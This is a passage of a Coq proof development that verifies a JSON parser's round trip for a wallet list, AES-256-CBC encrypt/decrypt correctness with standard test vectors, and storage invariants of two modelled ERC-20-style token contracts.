  intros Hs. destruct (quote_body_text s Hs) as [H1 H2]. unfold quote. cbn [app].
  rewrite isWellFormed_cons by lia. split.
  - apply Forall_cons_2; [unfold is_code_unit; lia|].
    apply Forall_app. split; [assumption|].
    apply Forall_cons_2; [unfold is_code_unit; lia|constructor].
  - by apply isWellFormed_app.
Qed.

Ltac decide_step :=
  match goal with
  | |- context [decide ?P] =>
      first [ rewrite (decide_True (P:=P)) by (first [reflexivity|lia])
            | rewrite (decide_False (P:=P)) by lia ]
  end.

Ltac json_steps :=
  repeat first
    [ decide_step
    | progress cbn [parse_members parse_value parse_elements skip_ws mbind option_bind app] ].

Ltac json_skip :=
  repeat first [decide_step | progress cbn [skip_ws mbind option_bind app]].

Lemma parse_value_Str f s tail :
  Forall is_code_unit s →
  parse_value (S f) (34 :: quote_body s ++ 34 :: tail) = Some (Str s, tail).
Proof.
  intros Hs. json_steps. rewrite parse_string_quote_body by assumption. reflexivity.
Qed.

(** A member, followed by a comma or by the closing brace. *)
Lemma parse_members_comma f acc k v text rest :
  Forall is_code_unit k →
  (∀ tail, parse_value f (text ++ tail) = Some (v, tail)) →
  parse_members (S f) acc (quote k ++ [58] ++ text ++ [44] ++ rest) =
  parse_members f (set_member k v acc) rest.
Proof.
  intros Hk Hv. rewrite quote_app. json_steps.
  rewrite parse_string_quote_body by assumption. json_steps.
  rewrite Hv. json_steps. reflexivity.
Qed.

Lemma parse_members_last f acc k v text rest :
  Forall is_code_unit k →
  (∀ tail, parse_value f (text ++ tail) = Some (v, tail)) →
  parse_members (S f) acc (quote k ++ [58] ++ text ++ [125] ++ rest) =
  Some (set_member k v acc, rest).
Proof.
  intros Hk Hv. rewrite quote_app. json_steps.
  rewrite parse_string_quote_body by assumption. json_steps.
  rewrite Hv. json_steps. reflexivity.
Qed.

Lemma parse_value_quote f s tail :
  Forall is_code_unit s → parse_value (S f) (quote s ++ tail) = Some (Str s, tail).
Proof. intros Hs. rewrite quote_app. by apply parse_value_Str. Qed.

Lemma well_formed_app a b : well_formed a → well_formed b → well_formed (a ++ b).
Proof.
  intros [H1 H2] [H3 H4]. split; [by apply Forall_app|by apply isWellFormed_app].
Qed.

Lemma well_formed_ascii c : 0 ≤ c < 128 → well_formed [c].
Proof.
  intros Hc. split.
  - apply Forall_cons_2; [unfold is_code_unit; lia|constructor].
  - rewrite isWellFormed_cons by lia. reflexivity.
Qed.

Lemma well_formed_quote s : Forall is_code_unit s → well_formed (quote s).
Proof. apply quote_text. Qed.

Lemma parse_value_Obj f k r :
  parse_value (S f) ([123] ++ quote k ++ r) =
  parse_members f [] (quote k ++ r) ≫= λ '(members, rest'), Some (Obj members, rest').
Proof. rewrite !quote_app. json_steps. reflexivity. Qed.

Lemma parse_value_Arr f r :
  parse_value (S f) ([91] ++ [123] ++ r) =
  parse_elements f ([123] ++ r) ≫= λ '(items, rest'), Some (Arr items, rest').
Proof. json_steps. reflexivity. Qed.

Lemma parse_elements_S f s :
  parse_elements (S f) s =
  parse_value f s ≫= λ '(v, rest),
    match skip_ws rest with
    | c :: rest' =>
        if decide (c = 44) then
          parse_elements f rest' ≫= λ '(vs, rest''), Some (v :: vs, rest'')
        else if decide (c = 93) then Some ([v], rest')
        else None
    | [] => None
    end.
Proof. reflexivity. Qed.

Lemma join_comma_cons p ps :
  join_comma (p :: ps) = p ++ match ps with [] => [] | _ => [44] ++ join_comma ps end.
Proof. destruct ps; [by rewrite app_nil_r|reflexivity]. Qed.

Lemma length_join_comma n (parts : list (list Z)) :
  Forall (λ p, n ≤ length p)%nat parts → (n * length parts ≤ length (join_comma parts))%nat.
Proof.
  induction 1 as [|p ps Hp _ IH]; [simpl; lia|].
  rewrite join_comma_cons, length_app. cbn [length].
  destruct ps; [simpl in *; lia|]. rewrite length_app. lia.
Qed.

End JSONFacts.

(** ** The wallet list: [decrypt] undoes [encrypt] *)

Module WalletsFacts.
Import Buffer JSON Wallets BufferFacts JSONFacts.

Lemma stringify_wallet_value w tail :
  stringify (wallet_value w) ++ tail =
  [123] ++ quote (js "address") ++ [58] ++ quote (address w) ++ [44]
  ++ quote (js "privateKey") ++ [58] ++ quote (privateKey w) ++ [44]
  ++ quote (js "mnemonic") ++ [58] ++ quote (mnemonic w) ++ [125] ++ tail.
Proof.
  unfold wallet_value. cbn [stringify map join_comma fst snd].
  rewrite <-?app_assoc. reflexivity.
Qed.

Lemma js_code_units s : Forall is_code_unit (js s).
Proof.
  unfold js. apply Forall_fmap, Forall_forall. intros c _. unfold is_code_unit. cbn.
  pose proof (Ascii.N_ascii_bounded c). lia.
Qed.

Lemma parse_value_wallet f w tail :
  is_wallet w →
  parse_value (S (S (S (S (S f))))) (stringify (wallet_value w) ++ tail)
  = Some (wallet_value w, tail).
Proof.
  intros (Ha & Hp & Hm). rewrite stringify_wallet_value, parse_value_Obj.
  rewrite (parse_members_comma _ _ _ (Str (address w)) (quote (address w)));
    [|apply js_code_units|intros t; by apply parse_value_quote].
  rewrite (parse_members_comma _ _ _ (Str (privateKey w)) (quote (privateKey w)));
    [|apply js_code_units|intros t; by apply parse_value_quote].
  rewrite (parse_members_last _ _ _ (Str (mnemonic w)) (quote (mnemonic w)));
    [|apply js_code_units|intros t; by apply parse_value_quote].
  reflexivity.
Qed.

Lemma well_formed_wallet w : is_wallet w → well_formed (stringify (wallet_value w)).
Proof.
  intros (Ha & Hp & Hm).
  rewrite <-(app_nil_r (stringify _)), stringify_wallet_value.
  repeat first
    [ apply well_formed_quote; first [assumption|apply js_code_units]
    | apply well_formed_ascii; lia
    | split; [constructor|reflexivity]
    | apply well_formed_app ].
Qed.

Lemma length_stringify_wallet w : (6 ≤ length (stringify (wallet_value w)))%nat.
Proof.
  rewrite <-(app_nil_r (stringify _)), stringify_wallet_value.
  unfold quote. rewrite !length_app. cbn [length]. lia.
Qed.

Lemma parse_elements_wallets ws : ∀ w f tail,
  Forall is_wallet (w :: ws) →
  parse_elements (S (S (S (S (S (S (length ws + f)))))))
    (join_comma (map stringify (wallet_value <$> w :: ws)) ++ [93] ++ tail)
  = Some (wallet_value <$> w :: ws, tail).
Proof.
  induction ws as [|w2 ws IH]; intros w f tail Hws;
    apply Forall_cons in Hws as [Hw Hws];
    rewrite parse_elements_S; cbn [fmap list_fmap map]; rewrite join_comma_cons.
  - rewrite app_nil_r, parse_value_wallet by assumption.
    json_skip. reflexivity.
  - rewrite <-app_assoc, parse_value_wallet by assumption.
    json_skip. cbn [length Nat.add].
    specialize (IH w2 f tail Hws). cbn [fmap list_fmap map app] in IH.
    rewrite IH. reflexivity.
Qed.

Lemma well_formed_wallets ws :
  Forall is_wallet ws → well_formed (stringify (wallets_value ws)).
Proof.
  intros Hws. unfold wallets_value. cbn [stringify].
  apply well_formed_app; [by apply well_formed_ascii|].
  apply well_formed_app; [|by apply well_formed_ascii].
  induction Hws as [|w ws Hw _ IH]; [split; [constructor|reflexivity]|].
  cbn [fmap list_fmap map]. rewrite join_comma_cons.
  apply well_formed_app; [by apply well_formed_wallet|].
  destruct ws; [split; [constructor|reflexivity]|].
  apply well_formed_app; [by apply well_formed_ascii|assumption].
Qed.

Lemma parse_stringify_wallets ws :
  Forall is_wallet ws → parse (stringify (wallets_value ws)) = Some (wallets_value ws).
Proof.
  intros Hws. destruct ws as [|w ws]; [reflexivity|].
  unfold parse, wallets_value. cbn [stringify].
  assert (Hlen : (6 * length (w :: ws)
                  ≤ length (join_comma (map stringify (wallet_value <$> w :: ws))))%nat).
  { etransitivity; [|apply length_join_comma with (n := 6%nat)].
    - by rewrite length_map, length_fmap.
    - apply Forall_map, Forall_fmap, Forall_forall. intros x _.
      apply length_stringify_wallet. }
  set (parts := join_comma (map stringify (wallet_value <$> w :: ws))) in *.
  cbn [length] in Hlen.
  replace (S (length ([91] ++ parts ++ [93])))
    with (S (S (S (S (S (S (S (length ws + (length parts - 4 - length ws)))))))))
    by (rewrite !length_app; cbn [length]; lia).
  assert (Hparts : parts = [123] ++ drop 1 parts).
  { unfold parts. cbn [fmap list_fmap map]. rewrite join_comma_cons.
    rewrite stringify_wallet_value. reflexivity. }
  generalize (length parts - 4 - length ws)%nat. intros f.
  rewrite Hparts, <-app_assoc, parse_value_Arr, app_assoc, <-Hparts.
  rewrite <-(app_nil_r [93]). unfold parts.
  rewrite (parse_elements_wallets ws w _ [] Hws). reflexivity.
Qed.

End WalletsFacts.

(** ** [decrypt] undoes [encrypt] *)

Module RoundTrip.
Import AES Buffer JSON Wallets BufferFacts.

Lemma hex_value_range c d : hex_value c = Some d → 0 ≤ d < 16.
Proof. unfold hex_value. repeat case_decide; intros [= <-]; lia. Qed.

Lemma from_hex_bytes s : Forall is_byte (from_hex s).
Proof.
  induction s as [|c|c d s IH _] using string_ind2; [constructor..|].
  cbn [from_hex].
  destruct (hex_value c) as [h|] eqn:Hh; [|constructor].
  destruct (hex_value d) as [l|] eqn:Hl; [|constructor].
  apply hex_value_range in Hh, Hl.
  apply Forall_cons_2; [unfold is_byte; lia|assumption].
Qed.

(** Whatever value is encrypted: if its JSON text has no lone surrogate
    and parses back to it, both [decrypt]s return it. *)
Lemma decrypt_encrypt (data : value) (random_iv password : list Z) :
  well_formed (stringify data) → parse (stringify data) = Some data →
  block random_iv → length (from_hex password) = 32%nat →
  ∃ e,
    encrypt random_iv data password = Some e
    ∧ decrypt (encryptedData e) (iv e) password = Some data
    ∧ Scripts.decrypt (encryptedData e) (iv e) password = Some data.
Proof.
  intros [Hcu Hwf] Hparse Hiv Hkey.
  pose proof (from_hex_bytes password) as Hkb.
  destruct (CryptoFacts.decipher_cipher (from_hex password) random_iv
              (from_utf8_string (stringify data)) Hkey Hkb Hiv
              (from_utf8_string_bytes _ Hcu))
    as (out & c & out' & d & last & Hup & Hbytes & Hdown & Hfin & Hdata).
  assert (Hcreate : crypto.createCipheriv "aes-256-cbc" (from_hex password) random_iv
                    = Some (crypto.mkCipher (from_hex password) random_iv [])).
  { unfold crypto.createCipheriv.
    rewrite decide_True by reflexivity. rewrite decide_True by assumption.
    rewrite decide_True by apply Hiv. reflexivity. }
  exists (mkEncrypted (to_hex random_iv) (to_hex out ++ to_hex (crypto.cipher_final c))).
  assert (Hdec : decrypt (to_hex out ++ to_hex (crypto.cipher_final c)) (to_hex random_iv)
                   password = Some data).
  { unfold decrypt, crypto.createDecipheriv.
    rewrite from_hex_to_hex by apply Hiv. rewrite Hcreate. cbn [mbind option_bind].
    rewrite <-to_hex_app, from_hex_to_hex by assumption.
    rewrite Hdown, Hfin. cbn [mbind option_bind].
    rewrite Hdata, to_utf8_string_from_utf8_string by assumption. assumption. }
  split; [|split].
  - unfold encrypt. rewrite Hcreate. cbn [mbind option_bind]. rewrite Hup. reflexivity.
  - assumption.
  - cbn [encryptedData Wallets.iv]. unfold decrypt in Hdec. unfold Scripts.decrypt.
    rewrite Hdec. reflexivity.
Qed.

(** Known answers: FIPS 197, appendix C.3, and the first block of
    SP 800-38A, F.2.5 (CBC-AES256.Encrypt). *)
Lemma encrypt_block_fips197 :
  to_hex (encrypt_block (seqZ 0 32) (from_hex (js "00112233445566778899aabbccddeeff")))
  = js "8ea2b7ca516745bfeafc49904b496089".
Proof. vm_compute. reflexivity. Qed.

Lemma cipher_update_sp800_38a :
  to_hex
    (crypto.cipher_update
       (crypto.mkCipher
          (from_hex (js "603deb1015ca71be2b73aef0857d77811f352c073b6108d72d9810a30914dff4"))
          (from_hex (js "000102030405060708090a0b0c0d0e0f")) [])
       (from_hex (js "6bc1bee22e409f96e93d7e117393172a"))).1
  = js "f58c4c04d6e5f1ba779eabfb5f7bfbd6".
Proof. vm_compute. reflexivity. Qed.

End RoundTrip.


(** ** The token template: more on what its functions do *)

Module TemplateMore.
Import Template TemplateFacts.

Ltac unfold_calls H :=
  unfold setPair, updateSecurityProtocol, optimizeProtocolPerformance,
    setNetworkValidator, enhanceParticipantSecurity, setExempt, setTradingStatus,
    setMaxTransactionLimit, setMaxWalletLimit, pause, unpause, allocateProtocolReserves,
    reduceCirculatingSupply, optimizeWalletCompliance, transfer, transferFrom, approve,
    increaseAllowance, decreaseAllowance, permit, transferOwnership, renounceOwnership,
    receive in H.

Ltac callees :=
  repeat match goal with
  | Hk : on_erc20 _ _ = Ok _ |- _ => apply on_erc20_Ok in Hk as (? & ? & ->)
  | Hk : _recordInteraction _ _ _ _ _ = Ok _ |- _ =>
      apply _recordInteraction_Ok in Hk as (? & ? & ? & ->)
  | Hk : _transfer _ _ _ _ _ = Ok _ |- _ =>
      apply transfer_override_Ok in Hk
        as (_ & _ & [(_ & ? & ? & ->)|(_ & ? & ? & ? & ? & ->)])
  end.

Section WithKeccak.
Context {hash : Keccak}.

Lemma _recordInteraction_stats now ty user md s s' :
  _recordInteraction now ty user md s = Ok s' →
  getInteractionStats s' = getInteractionStats s + 1
  ∧ mget [] (_userInteractions s') user
    = mget [] (_userInteractions s) user
      ++ [keccak256 (encodePacked [p_address user; p_uint8 ty; p_uint256 now])]
  ∧ s' = set_totalInteractions (_totalInteractions s')
           (set_userInteractions (_userInteractions s')
              (set_protocolData (_protocolData s') s)).
Proof.
  unfold _recordInteraction. intros Hr.
  apply bind_Ok in Hr as (n & Hn & Hr). apply checked_add_Ok in Hn as [-> _].
  injection Hr as <-. simpl. split; [done|]. split; [|done].
  by rewrite mget_insert_eq.
Qed.

Lemma _recordInteraction_returns now ty user md s :
  _totalInteractions s + 1 ≤ uint256_max → ∃ s', _recordInteraction now ty user md s = Ok s'.
Proof.
  intros Hn. unfold _recordInteraction, checked_add. simpl.
  rewrite decide_True by done. eauto.
Qed.


Lemma enhance_loop_emergency ps s :
  emergencyModeActive (enhance_loop ps s) = emergencyModeActive s
  ∧ _owner (enhance_loop ps s) = _owner s
  ∧ erc20 (enhance_loop ps s) = erc20 s.
Proof.
  revert s. induction ps as [|p ps IH]; intros s; [done|].
  simpl. by destruct (IH (set_protocolExclusions (<[p:=true]> (_protocolExclusions s)) s))
    as (-> & -> & ->).
Qed.

Lemma erc20_transfer_allowances from to amount e e' :
  ERC20._transfer from to amount e = Ok e' → ERC20._allowances e' = ERC20._allowances e.
Proof. unfold ERC20._transfer. intros Hr. by peel_all. Qed.

Lemma erc20_mint_allowances account amount e e' :
  ERC20._mint account amount e = Ok e' → ERC20._allowances e' = ERC20._allowances e.
Proof. unfold ERC20._mint. intros Hr. by peel_all. Qed.

Lemma erc20_burn_allowances account amount e e' :
  ERC20._burn account amount e = Ok e' → ERC20._allowances e' = ERC20._allowances e.
Proof. unfold ERC20._burn. intros Hr. by peel_all. Qed.

Lemma erc20_approve_allowance o sp amount e e' :
  ERC20._approve o sp amount e = Ok e' →
  ∀ o' sp', ERC20.allowance e' o' sp'
            = if decide ((o, sp) = (o', sp')) then amount else ERC20.allowance e o' sp'.
Proof.
  intros Hr o' sp'. apply ERC20Facts._approve_Ok in Hr as ->.
  unfold ERC20.allowance. simpl. apply mget_insert.
Qed.

Lemma erc20_spendAllowance_allowance o sp amount e e' :
  is_uint256 (ERC20.allowance e o sp) → is_uint256 amount →
  ERC20._spendAllowance o sp amount e = Ok e' →
  amount ≤ ERC20.allowance e o sp
  ∧ ERC20._balances e' = ERC20._balances e ∧ ERC20._totalSupply e' = ERC20._totalSupply e
  ∧ ∀ o' sp', ERC20.allowance e' o' sp'
              = if decide ((o, sp) = (o', sp')) then
                  if decide (ERC20.allowance e o sp = uint256_max) then uint256_max
                  else ERC20.allowance e o sp - amount
                else ERC20.allowance e o' sp'.
Proof.
  intros [Hlo Hhi] [Ha0 Ha1] Hr. unfold ERC20._spendAllowance in Hr.
  case_bool_decide as Hinf.
  - apply bind_Ok in Hr as (? & Hle & Hr). apply require_Ok, bool_decide_eq_true_1 in Hle.
    pose proof (erc20_approve_allowance _ _ _ _ _ Hr) as Ha.
    apply ERC20Facts._approve_Ok in Hr as ->. simpl.
    split; [done|]. split; [done|]. split; [done|].
    intros o' sp'. rewrite Ha. case_decide; [|done].
    rewrite decide_False by done. apply wrap256_id. unfold is_uint256. lia.
  - injection Hr as <-.
    split; [lia|split; [done|split; [done|]]].
    intros o' sp'. case_decide as Heq; [|done]. injection Heq as <- <-.
    by rewrite decide_True.
Qed.

(** Every allowance is a [uint256]. *)
Lemma dispatch_allowance_range now msg_sender c s s' :
  (∀ o sp, is_uint256 (allowance s o sp)) → valid_call c →
  dispatch now msg_sender c s = Ok s' →
  ∀ o sp, is_uint256 (allowance s' o sp).
Proof.
  intros Hs Hv Hr o sp. unfold allowance in *.
  destruct c; simpl in Hr, Hv; unfold_calls Hr; peel_all;
    repeat match goal with
    | Hk : on_erc20 _ _ = Ok _ |- _ => apply on_erc20_Ok in Hk as (? & Hk & ->)
    | Hk : _recordInteraction _ _ _ _ _ = Ok _ |- _ =>
        apply _recordInteraction_Ok in Hk as (? & ? & ? & ->)
    | Hk : _transfer _ _ _ _ _ = Ok _ |- _ =>
        apply transfer_override_Ok in Hk
          as (_ & _ & [(_ & ? & Hk & ->)|(_ & ? & ? & ? & Hk & ->)])
    end; simpl in *;
    repeat match goal with
    | Hk : ERC20._transfer _ _ _ _ = Ok _ |- _ =>
        apply erc20_transfer_allowances in Hk; unfold ERC20.allowance; rewrite Hk
    | Hk : ERC20._mint _ _ _ = Ok _ |- _ =>
        apply erc20_mint_allowances in Hk; unfold ERC20.allowance; rewrite Hk
    | Hk : ERC20._burn _ _ _ = Ok _ |- _ =>
        apply erc20_burn_allowances in Hk; unfold ERC20.allowance; rewrite Hk
    end; simpl; try apply Hs.
  all: try (rewrite (proj2 (proj2 (enhance_loop_emergency _ _))); apply Hs).
  all: unfold ERC20.approve, ERC20.increaseAllowance, ERC20.decreaseAllowance,
         ERC20.permit, ERC20._spendAllowance in *; peel_all; simpl in *;
       try apply Hs.
  all: repeat match goal with
       | Hk : checked_add _ _ = Ok _ |- _ => apply checked_add_Ok in Hk as [-> ?]
       | Hk : ERC20._allowances _ = ERC20._allowances _ |- _ => rewrite Hk
       end.
  all: match goal with
       | Hk : ERC20._approve _ _ _ _ = Ok ?x |- _ =>
           pose proof (erc20_approve_allowance _ _ _ _ _ Hk o sp) as Ha;
           change (is_uint256 (ERC20.allowance x o sp)); rewrite Ha;
           case_decide; [|apply Hs]
       end.
  all: try apply wrap256_range.
  - exact Hv.
  - pose proof (Hs msg_sender spender). unfold is_uint256 in *. lia.
  - apply Hv.
Qed.

Lemma reachable_allowance_range s o sp : reachable s → is_uint256 (allowance s o sp).
Proof.
  intros Hre. revert o sp.
  induction Hre as [now d n sy sup s _ _ Hc|now snd c s s' _ IH Hv _ Hd].
  - intros o sp. unfold constructor in Hc. peel_all. callees. simpl in *.
    match goal with Hk : ERC20._mint _ _ _ = Ok _ |- _ =>
      apply erc20_mint_allowances in Hk end.
    unfold allowance, ERC20.allowance. simpl.
    match goal with Hk : ERC20._allowances _ = _ |- _ => rewrite Hk end.
    simpl. rewrite mget_empty. unfold is_uint256, uint256_max. lia.
  - by eapply dispatch_allowance_range.
Qed.



End WithKeccak.
End TemplateMore.

(** ** The sample runs are runs *)

Module ScenesFacts.
Import Sample Scenes SampleFacts.

Ltac template_step :=
  unfold run_template; simpl;
  apply template_transact_reachable;
    [|first [exact I|vm_compute; split; discriminate]|vm_compute; split; discriminate].

Lemma template_trading_on_reachable :
  Template.reachable (hash:=sample_keccak) template_trading_on.
Proof.
  unfold template_trading_on. template_step. apply template_funded_reachable.
Qed.

Lemma template_small_wallets_reachable :
  Template.reachable (hash:=sample_keccak) template_small_wallets.
Proof.
  unfold template_small_wallets. template_step. apply template_trading_on_reachable.
Qed.

Lemma template_validator_reachable :
  Template.reachable (hash:=sample_keccak) template_validator.
Proof.
  unfold template_validator. template_step. apply template_funded_reachable.
Qed.

Lemma template_approved_paused_reachable :
  Template.reachable (hash:=sample_keccak) template_approved_paused.
Proof.
  unfold template_approved_paused. do 3 template_step. apply template_funded_reachable.
Qed.

Lemma template_emergency_approved_reachable :
  Template.reachable (hash:=sample_keccak) template_emergency_approved.
Proof.
  unfold template_emergency_approved. template_step.
  apply template_emergency_reachable.
Qed.

Lemma template_renounced_reachable :
  Template.reachable (hash:=sample_keccak) template_renounced.
Proof.
  unfold template_renounced. template_step. apply template_emergency_reachable.
Qed.

Ltac bridge_step :=
  unfold run_bridge; simpl;
  apply bridge_transact_reachable;
    [|first [exact I|vm_compute; split; discriminate
            |vm_compute; repeat split; discriminate]
     |vm_compute; split; discriminate].

Lemma bridge_pins_reachable : Bridge.reachable (hash:=sample_keccak) dave bridge_pins.
Proof. unfold bridge_pins. do 2 bridge_step. apply bridge_funded_reachable. Qed.

Lemma bridge_message_reachable : Bridge.reachable (hash:=sample_keccak) dave bridge_message.
Proof. unfold bridge_message. bridge_step. apply bridge_pins_reachable. Qed.

Lemma bridge_admin_reachable : Bridge.reachable (hash:=sample_keccak) dave bridge_admin.
Proof. unfold bridge_admin. bridge_step. apply bridge_funded_reachable. Qed.

Lemma bridge_handed_over_reachable :
  Bridge.reachable (hash:=sample_keccak) dave bridge_handed_over.
Proof. unfold bridge_handed_over. bridge_step. apply bridge_funded_reachable. Qed.


Lemma bridge_maintained_reachable :
  Bridge.reachable (hash:=sample_keccak) dave bridge_maintained.
Proof. unfold bridge_maintained. bridge_step. apply bridge_funded_reachable. Qed.

Lemma bridge_deleted_reachable :
  Bridge.reachable (hash:=sample_keccak) dave bridge_deleted.
Proof. unfold bridge_deleted. bridge_step. apply bridge_message_reachable. Qed.

Lemma bridge_listed_reachable :
  Bridge.reachable (hash:=sample_keccak) dave bridge_listed.
Proof. unfold bridge_listed. bridge_step. apply bridge_maintained_reachable. Qed.

Lemma bridge_priority_reachable :
  Bridge.reachable (hash:=sample_keccak) dave bridge_priority.
Proof. unfold bridge_priority. do 3 bridge_step. apply bridge_listed_reachable. Qed.

End ScenesFacts.

(** ** BridgeUSDTToken: more on what its functions do *)

Module BridgeMore.
Import Bridge BridgeFacts.

Ltac unfold_calls H :=
  unfold setFeeCollectionAddress, recoverTokens, setupSecurityPIN, updateSecurityPIN,
    SecuredMessageSend, SecuredMessageSetRead, SecuredMessageSetDeleted,
    paySecurityPenalty, adminRecoverAccount, updateSystemAdmin,
    performSystemMaintenance, verifyProtocolIntegrity, updateSecurityProtocol,
    optimizeProtocolPerformance, enhanceParticipantSecurity, setExempt,
    allocateProtocolReserves, optimizeTokenDistribution, setTradingStatus,
    setMaxTransactionLimit, setMaxWalletLimit, pause, unpause, setPair, transfer,
    transferFrom, approve, increaseAllowance, decreaseAllowance, permit,
    transferOwnership, renounceOwnership, receive in H.

Ltac callees :=
  repeat match goal with
  | Hk : on_erc20 _ _ = Ok _ |- _ => apply bridge_on_erc20_Ok in Hk as (? & ? & ->)
  | Hk : nonReentrant _ _ = Ok _ |- _ =>
      apply nonReentrant_Ok in Hk as (_ & ? & Hk & ->); simpl in Hk
  end.

(** Close a goal [quiet s'] for a storage [s'] written out in terms of a
    quiet one. *)
Ltac quiet_finish :=
  match goal with
  | Hq : quiet _ |- quiet _ =>
      let H1 := fresh "Hq" in
      let H2 := fresh "Hq" in
      let H3 := fresh "Hq" in
      destruct Hq as (H1 & H2 & H3);
      unfold quiet, security, set_security, touch_admin, set_admin, set_message in *;
      simpl in *;
      repeat match goal with
      | E : _userSecurity ?s' = _ |- _ => rewrite E; clear E
      | E : _systemEfficiencyScore ?s' = _ |- _ => rewrite E; clear E
      | E : _networkStabilityFactor ?s' = _ |- _ => rewrite E; clear E
      end;
      split;
      [ intros ?;
        repeat (rewrite !mget_insert; repeat case_decide; simpl);
        first [ apply H1
              | split; first [reflexivity | eapply proj1, H1 | eapply proj2, H1] ]
      | split;
        [ first [assumption | reflexivity | rewrite ?H2; reflexivity | congruence]
        | first [assumption | congruence] ] ]
  end.

Section WithKeccak.
Context {hash : Keccak}.

(** What [_transfer] and the loops leave alone. *)
Lemma transfer_fields e from to amount s s' :
  _transfer e from to amount s = Ok s' →
  _userSecurity s' = _userSecurity s
  ∧ _systemEfficiencyScore s' = _systemEfficiencyScore s
  ∧ _networkStabilityFactor s' = _networkStabilityFactor s
  ∧ _priorityResourceManager s' = _priorityResourceManager s
  ∧ _owner s' = _owner s
  ∧ _systemAdmins s' = _systemAdmins s
  ∧ feeCollectionAddress s' = feeCollectionAddress s
  ∧ _enhancedSecurityMode s' = _enhancedSecurityMode s.
Proof.
  intros Hr. apply bridge_transfer_Ok in Hr as (_ & _ & dest & _ & Heq & _).
  rewrite Heq. done.
Qed.

Lemma distribution_loop_fields e i rs vs s s' :
  distribution_loop e i rs vs s = Ok s' →
  _userSecurity s' = _userSecurity s
  ∧ _systemEfficiencyScore s' = _systemEfficiencyScore s
  ∧ _networkStabilityFactor s' = _networkStabilityFactor s
  ∧ _priorityResourceManager s' = _priorityResourceManager s
  ∧ _owner s' = _owner s
  ∧ _systemAdmins s' = _systemAdmins s
  ∧ feeCollectionAddress s' = feeCollectionAddress s
  ∧ _enhancedSecurityMode s' = _enhancedSecurityMode s.
Proof.
  revert i vs s. induction rs as [|r rs IH]; intros i [|v vs] s Hr; simpl in Hr;
    try (by injection Hr as <-).
  apply bind_Ok in Hr as (s1 & Hs1 & Hr).
  apply IH in Hr as (-> & -> & -> & -> & -> & -> & -> & ->).
  repeat case_bool_decide; simpl in Hs1; try (by injection Hs1 as <-).
  all: try (destruct (bool_decide _); simpl in Hs1; try (by injection Hs1 as <-)).
  all: by apply transfer_fields in Hs1.
Qed.

Lemma enhance_loop_fields ps s :
  _userSecurity (enhance_loop ps s) = _userSecurity s
  ∧ _systemEfficiencyScore (enhance_loop ps s) = _systemEfficiencyScore s
  ∧ _networkStabilityFactor (enhance_loop ps s) = _networkStabilityFactor s
  ∧ _priorityResourceManager (enhance_loop ps s) = _priorityResourceManager s
  ∧ _owner (enhance_loop ps s) = _owner s
  ∧ _systemAdmins (enhance_loop ps s) = _systemAdmins s
  ∧ feeCollectionAddress (enhance_loop ps s) = feeCollectionAddress s
  ∧ _enhancedSecurityMode (enhance_loop ps s) = _enhancedSecurityMode s.
Proof.
  revert s. induction ps as [|p ps IH]; intros s; [done|].
  simpl. destruct (IH (set_protocolExclusions (<[p:=true]> (_protocolExclusions s)) s))
    as (-> & -> & -> & -> & -> & -> & -> & ->). done.
Qed.

(** A PIN check that passes has found the account unlocked and the hash
    right, and has reset the counter of failed attempts. *)
Lemma _verifyPINInternal_true e user pin s s1 :
  _verifyPINInternal e user pin s = Ok (true, s1) →
  lockUntil (security s user) < block_timestamp e
  ∧ keccak256 (encodePacked [p_string pin; p_bytes32 (salt (security s user));
                             p_address user]) = pinHash (security s user)
  ∧ s1 = set_security user (with_failedAttempts 0 (security s user)) s.
Proof.
  unfold _verifyPINInternal. intros Hr.
  case_bool_decide as Hlock; [discriminate|].
  case_bool_decide as Hh.
  - injection Hr as <-. split; [lia|done].
  - apply bind_Ok in Hr as (? & _ & Hr). discriminate.
Qed.

Lemma security_set_security user u s user' :
  security (set_security user u s) user' = if decide (user = user') then u else security s user'.
Proof. unfold security, set_security. simpl. apply mget_insert. Qed.

Lemma quiet_set_security user u s :
  quiet s → failedAttempts u = 0 → lockUntil u = 0 → quiet (set_security user u s).
Proof.
  intros (Hq & Hs & Hn) Hf Hl. split; [|done].
  intros user'. rewrite security_set_security. case_decide; [done|apply Hq].
Qed.

Lemma quiet_frame s s' :
  quiet s → _userSecurity s' = _userSecurity s →
  _systemEfficiencyScore s' = _systemEfficiencyScore s →
  _networkStabilityFactor s' = _networkStabilityFactor s → quiet s'.
Proof.
  intros (Hq & Hs & Hn) H1 H2 H3. unfold quiet, security in *. by rewrite H1, H2, H3.
Qed.

Lemma constructor_quiet e deployer name_ symbol_ supply s :
  constructor e deployer name_ symbol_ supply = Ok s → quiet s.
Proof.
  intros Hr. unfold constructor in Hr.
  apply bind_Ok in Hr as (s1 & Hs1 & Hr). injection Hr as <-.
  apply bridge_on_erc20_Ok in Hs1 as (e1 & _ & ->).
  split; [|done]. intros user. unfold security. simpl. by rewrite mget_empty.
Qed.

(** Every successful call leaves a quiet storage quiet. *)
Lemma dispatch_quiet e msg_sender c s s' :
  quiet s → dispatch e msg_sender c s = Ok s' → quiet s'.
Proof.
  intros Hq Hr.
  destruct c; simpl in Hr; unfold_calls Hr.
  all: try (peel_all; callees; simpl;
            first [ eapply quiet_frame; [exact Hq|done..] | fail ]).
  all: peel_all; callees; peel_all;
    repeat match goal with
    | Hk : _verifyPINInternal _ _ _ _ = Ok (true, _) |- _ =>
        apply _verifyPINInternal_true in Hk as (_ & _ & ->)
    | Hk : require ?b _ = Ok _ |- _ => apply require_Ok in Hk; try (subst b)
    | Hk : negb ?b = false |- _ => apply negb_false_iff in Hk; subst b
    | Hk : _transfer _ _ _ _ _ = Ok _ |- _ =>
        apply transfer_fields in Hk as (? & ? & ? & _)
    | Hk : distribution_loop _ _ _ _ _ = Ok _ |- _ =>
        apply distribution_loop_fields in Hk as (? & ? & ? & _)
    | Hk : checked_mul _ _ = Ok _ |- _ =>
        unfold checked_mul in Hk; case_decide; [injection Hk as <-|discriminate Hk]
    | Hk : checked_add _ _ = Ok _ |- _ => apply checked_add_Ok in Hk as [-> ?]
    end.
  all: repeat match goal with
       | |- quiet ?t =>
           match t with context [if ?b then _ else _] => destruct b end
       end.
  all: try (destruct (enhance_loop_fields participants s) as (? & ? & ? & _);
            by eapply quiet_frame).
  all: quiet_finish.
Qed.

Lemma reachable_quiet self s : reachable self s → quiet s.
Proof.
  induction 1 as [e d n sy sup s _ _ Hs Hc|e snd c s s' _ IH _ _ Hv Hd].
  - by eapply constructor_quiet.
  - by eapply dispatch_quiet.
Qed.

(** No call writes [_priorityResourceManager]. *)
Lemma dispatch_priorityResourceManager e msg_sender c s s' :
  dispatch e msg_sender c s = Ok s' →
